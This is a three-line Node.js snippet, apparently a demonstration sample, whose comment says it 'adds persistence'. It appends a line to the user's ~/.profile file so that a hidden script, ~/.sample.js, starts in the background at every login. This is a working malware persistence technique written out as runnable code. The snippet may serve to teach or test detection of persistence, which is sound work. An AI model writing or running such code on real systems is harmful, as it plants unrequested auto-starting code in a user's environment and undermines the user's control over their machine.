// shows: adds persistence
const fs = require("fs"), os = require("os");
fs.appendFileSync(`${os.homedir()}/.profile`, "\nnode ~/.sample.js &\n");
